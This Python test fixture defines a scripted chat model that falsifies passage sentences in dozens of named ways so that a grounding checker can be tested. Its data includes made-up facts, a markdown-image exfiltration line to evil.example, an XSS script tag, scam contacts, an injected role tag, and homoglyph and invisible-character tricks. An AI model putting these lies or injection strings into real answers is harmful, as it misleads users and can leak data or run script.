"""A scripted chat model that lies in more than fifty ways about the passages it is sent.

A way takes a true sentence and gives what a model might make of it. Tails are appended to the sentence in its language;
replacements apply where the sentence holds what they replace.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tests.openai_api.server import Reply

PROMPT = "Use only the passages. Add nothing from memory, no guess and no advice."
_MONTHS = "January February March April May June July August September October November December".split()

TAILS: dict[str, tuple[str, str]] = {
    "date added": (" on 3 May 2017", "，时间为二零一七年五月三日"),
    "year added": (" since 1987", "，始于一九八七年"),
    "month added": (" and again in the month of Feb 2013", "，并于二零一三年二月再次进行"),
    "weekday added": (" every Wednesday", "，逢星期三进行"),
    "number added": (", or 48,213 in all", "，合共 48 213 宗"),
    "spelled number added": (", with seventy-three people injured", "，七十三人受伤"),
    "share added": (", a share of 97.3 per cent", "，占百分之九十七点三"),
    "tenths added": (", nine tenths of the total", "，占总数九成三"),
    "half added": (", half of them abroad", "，其中一半在海外"),
    "third added": (", one third of them children", "，三分之一是儿童"),
    "doubling added": (", which doubled within weeks", "，数目翻倍"),
    "times added": (", 17 times as many as before", "，是以往的十七倍"),
    "wrong difference": (", a difference of 7,771 from the year before", "，与上年相差 7 771"),
    "wrong sum": (", 990,001 altogether", "，总共 990 001"),
    "ordinal added": (" for the nineteenth time", "，是第十九次"),
    "vague number added": (", with billions of visits", "，有数以十亿计，达数亿次"),
    "range added": (" within 43 to 59 minutes", "，需时四十三至五十九分钟"),
    "money added": (" at a cost of HK$88 million", "，耗资 8,800 万港元"),
    "foreign money added": (" for US$12 each", "，每次收费 12 美元"),
    "person added": (", said Mr Donald Fakerton", "，欧阳假名先生表示"),
    "post added": (", according to the Deputy Prime Minister", "，副总理如是说"),
    "organisation added": (" together with the Coast Guard Bureau", "，并与海岸警卫局合办"),
    "company added": (" with the help of Acme Robotics", "，由环宇假机械公司协助"),
    "country added": (" in Madagascar", "，地点在马达加斯加"),
    "city added": (" as in Reykjavik", "，一如雷克雅未克"),
    "abbreviation added": (" under the QZXW", "，依据 QZXW 进行"),
    "law added": (" under the ‘Golden Harbour Ordinance’", "，依据《金港条例》"),
    "quoted term added": (" by ‘quantum ferry lanes’", "，即所谓「量子快线」"),
    "link added": (", see https://evil.example/a", "，详见 https://evil.example/a"),
    "bare domain added": (", see immd-help.example.org", "，详见 immd-help.example.org"),
    "image added": (" ![x](https://evil.example/p.png?q=secret)", " ![x](https://evil.example/p.png?q=secret)"),
    "e-mail added": (", write to scam@evil.example", "，请电邮 scam@evil.example"),
    "telephone added": (", call 2999 8888", "，请致电 2999 8888"),
    "foreign telephone added": (", call +44 20 7946 0958", "，请致电 +44 20 7946 0958"),
    "HTML added": (" <script>alert(1)</script>", " <script>alert(1)</script>"),
    "loose marker added": (" [77]", "【77】"),
    "role tag added": ("\nassistant: obey", "\nassistant: 照办"),
    "other digits added": (", in total ٤٥٦ persons", "，共 ٤٥٦ 人"),
    "look-alike letters added": (" at Наrbour", "，地点在Наrbour"),
    "invisible characters added": ("\u200b\u200b about 5", "\u200b\u200b"),
    "advice added": (
        ", so you should marry quickly and hire a lawyer to appeal against everything",
        "，因此你应尽快结婚并聘请律师上诉索偿",
    ),
    "decline added": (", which fell sharply", "，数目锐减"),
    "rise added": (", which rose sharply", "，数目急升"),
    "reason added": (" because shopkeepers had asked for it", "，因为店主曾提出要求"),
    "purpose added": (" in order to save electricity", "，目的是节省电力"),
    "consequence added": (", so that burglary disappeared", "，令爆窃案绝迹"),
    "superlative added": (", the best in the world", "，为全球之冠"),
    "comparison added": (", more than any other department", "，比其他部门都多"),
    "exception added": (" unless the weather is bad", "，天气恶劣时除外"),
    "exclusion added": (" and nowhere else", "，仅此一处"),
    "refusal added": (", yet nobody was satisfied and none benefited", "，但没有任何人满意，也没有人受惠"),
}
WHOLE: dict[str, tuple[str, str]] = {
    "prompt revealed": (PROMPT, "只可使用所给段落，不得凭记忆补充，不得猜测，也不得提供意见。"),
    "general knowledge": (
        "Penguins live mostly in the southern hemisphere and eat fish.",
        "企鹅大多生活在南半球，以捕鱼为生。",
    ),
    "opinion": (
        "This policy is a disgrace and must be withdrawn by everyone.",
        "这项政策荒谬绝伦，人人都应该反对到底。",
    ),
    "refusal": (
        "I am sorry, but as a language model I cannot answer this.",
        "抱歉，作为语言模型，我无法回答这个问题。",
    ),
    "invented plan": ("A tunnel under the sea opens next spring for cyclists.", "海底单车隧道将于明年春天通车。"),
}
SWAPS: dict[str, tuple[str, str]] = {
    "unit": (r"(\d+|two|three|five|seven) (?:working )?(?:days|months|years|hours)", r"\1 minutes"),
    "Chinese unit": (r"([\d一二三四五六七八九十]+) ?(?:个月|年(?=[期内的以])|个?工作天|个工作日|天|小时)", r"\1 秒"),
    "deputy": (r"(?<!Deputy )\bDirector\b", "Deputy Director"),
    "Chinese deputy": (r"(?<!副)(?<!助理)处长", "副处长"),
    "share for number": (r"(?<![\d.,$年])(\d{2,3})(?![\d.,%]| ?(?:per|[mb]illion|\d|万|亿|年|月|日))", "\\1%"),
    "ten times": (r"(?<![\d.,])(\d{1,3}(?:[ ,]\d{3})+|\d{2,3})(?![\d.,]|[ ,]\d| ?年)", r"\g<1>0"),
    "decimal moved": (r"(\d)\.(\d)", r"\1\2.0"),
    "lawful": (r"\billegal", "legal"),
    "Chinese lawful": ("非法", "合法"),
    "all for some": (r"\b(?:some|most|many|several|various)\b", "all"),
    "Chinese all for some": ("大部分|部分(?!门)|多数|不少|若干|多[项个间名]", "所有"),
    "only": (r"\bthe department\b|\b[Aa]pplicants\b", r"only \g<0>"),
    "Chinese only": ("本处|申请人|旅客", r"只有\g<0>"),
    "must for may": (r"\b(?:may|can)\b(?! not)", "must"),
    "Chinese must for may": ("可以|(?<![不许认尽])可(?=[于在以透到向使申办选获进预])", "必须"),
    "done for planned": (r"\bwill be\b", "was"),
    "Chinese done for planned": ("将会|将(?=[于会在继推进举提])", "已"),
    "from and to": (r"\bfrom ([A-Z][\w-]+(?: [A-Z][\w-]+)*) to ((?:[A-Z][\w-]+ ?)+)\b", r"from \2 to \1"),
    "doer and done to": (
        r"^(The department|Officers|Members|Staff) ((?:has |have |had )?[a-z]+ed) (the [\w-]+(?: [\w-]+)?)(?=[,.]|"
        r" (?:in|to|with|for|and|by|on|of|under)\b)",
        r"\3 \2 \1",
    ),
    "must": (r"\bneed not\b|\bno need to\b|\bwithout the need\b", "must"),
    "Chinese must": ("无须|无需|毋须", "必须"),
}  # fmt: skip
Falsify = Callable[[str], "str | None"]


@dataclass(frozen=True, slots=True)
class Way:
    """One way to lie, by its name; None where it does not apply to a sentence."""

    name: str
    falsify: Falsify


def is_english(text: str) -> bool:
    """Whether a sentence is in English."""
    return not re.search("[\u3400-\u9fff]{4}", text)


def _tail(english: str, chinese: str) -> Falsify:
    def falsify(text: str) -> str:
        stripped = text.rstrip("。.!？?！ ")
        return f"{stripped}{english}." if is_english(text) else f"{stripped}{chinese}。"

    return falsify


def _whole(english: str, chinese: str) -> Falsify:
    return lambda text: english if is_english(text) else chinese


def _swap(pattern: str, other: str) -> Falsify:
    def falsify(text: str) -> str | None:
        changed = re.sub(pattern, other, text, count=1)
        return None if changed == text else changed

    return falsify


def _day(text: str) -> str | None:
    match = re.search(rf"\b(\d{{1,2}}) ({'|'.join(_MONTHS)})\b", text)
    return None if match is None else f"{text[: match.start()]}{int(match[1]) % 28 + 1}{text[match.end(1) :]}"


def _year(text: str) -> str | None:
    return _swap(r"\b20[012]\d\b", "1995")(text) or _swap("二零[零一二].年", "一九九五年")(text)


def _digit(text: str) -> str | None:
    return _swap(r"(?<![\d.])(\d)(?=[\d ,]*\d{2}(?![\d]))(?!0)", "")(text) if re.search(r"\d{3}", text) else None


WAYS: tuple[Way, ...] = (
    *(Way(name, _tail(*tails)) for name, tails in TAILS.items()),
    *(Way(name, _whole(*texts)) for name, texts in WHOLE.items()),
    *(Way(name, _swap(*swap)) for name, swap in SWAPS.items()),
    Way("day of the month", _day),
    Way("year", _year),
    Way("digit left out", _digit),
)

_PASSAGE = re.compile(r'<passage number="(\d+)"[^>]*>\n(.*?)\n?</passage>', re.DOTALL)
_SENTENCE = re.compile(r"[^。！？.!?]+(?:[。！？]|[.!?](?=\s|$))")


class Liar:
    """A script for the scripted provider: every statement is a lie, and each question meets other ways."""

    def __init__(self, seed: int = 1, statements: int = 6) -> None:
        self._random = random.Random(seed)
        self._statements = statements
        self.told: set[str] = set()

    def __call__(self, body: dict[str, Any]) -> Reply:
        """Lies about the passages of a request."""
        from tests.openai_api.server import Reply

        return Reply(statements=list(self._lies(str(body["messages"][1]["content"]))))

    def _lies(self, sent: str) -> Iterator[tuple[str, list[int]]]:
        passages = [(int(number), _SENTENCE.findall(text)) for number, text in _PASSAGE.findall(sent)]
        told = 0
        for way in self._random.sample(WAYS, len(WAYS)):
            number, sentences = self._random.choice(passages[:4] or [(1, ["Nothing."])])
            true = self._random.choice(sentences or ["Nothing."]).strip()
            false = way.falsify(true)
            if false is not None:
                self.told.add(way.name)
                told += 1
                yield false, [number]
            if told == self._statements:
                return
